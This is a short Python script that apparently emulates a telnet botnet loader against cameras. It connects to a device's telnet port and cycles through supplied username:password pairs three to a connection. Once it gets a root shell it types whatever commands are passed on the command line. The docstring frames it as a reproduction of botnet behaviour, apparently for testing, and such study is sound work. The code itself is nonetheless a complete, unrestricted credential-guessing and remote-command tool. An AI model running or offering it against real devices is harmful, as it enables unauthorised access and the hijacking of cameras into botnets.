#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""What a telnet botnet's loader does to a camera, typed into a real telnetd and a real busybox shell.

loader.py ADDRESS USER:PASSWORD,... [COMMAND]...
Tries the accounts three to a connection; after the first that works it types the commands, one by one.
"""
import socket
import sys
import time

IAC, DONT, DO, WONT, WILL, SB, SE = 255, 254, 253, 252, 251, 250, 240


class Telnet:
    def __init__(self, address):
        self.sock = socket.create_connection((address, 23), 5)
        self.sock.settimeout(4)

    def read_until(self, *ends):
        """Text up to one of `ends`; every option that the server asks for is refused."""
        text, raw = b"", b""
        while not any(e in text for e in ends):
            try:
                more = self.sock.recv(4096)
            except TimeoutError:
                break
            if not more:
                raise ConnectionError
            raw += more
            plain, raw = self.options(raw)
            text += plain
        return text

    def options(self, raw):
        text, i = b"", 0
        while i < len(raw):
            if raw[i] != IAC:
                text += raw[i:i + 1]
                i += 1
            elif i + 2 >= len(raw):
                break
            elif raw[i + 1] == SB:
                end = raw.find(bytes([IAC, SE]), i)
                if end < 0:
                    break
                i = end + 2
            else:
                refuse = {DO: WONT, WILL: DONT}.get(raw[i + 1])
                if refuse:
                    self.sock.sendall(bytes([IAC, refuse, raw[i + 2]]))
                i += 3
        return text, raw[i:]

    def line(self, text):
        self.sock.sendall(text.encode() + b"\r\n")


def login(address, accounts):
    """A session with the first account that works, or None."""
    session, tries = None, 0
    for account in accounts:
        user, password = account.split(":")
        if session is None or tries == 3:
            session, tries = Telnet(address), 0
        session.read_until(b"ogin: ")
        session.line(user)
        session.read_until(b"assword: ")
        session.line(password)
        tries += 1
        if b"# " in session.read_until(b"# ", b"incorrect"):
            return session
        if tries == 3:
            session.sock.close()
    return None


def main():
    session = login(sys.argv[1], sys.argv[2].split(","))
    if session is None:
        sys.exit(1)
    for command in sys.argv[3:]:
        session.line(command)
        print(session.read_until(b"# ").decode("latin-1"))
        time.sleep(0.2)
    session.line("exit")
    time.sleep(0.3)


main()
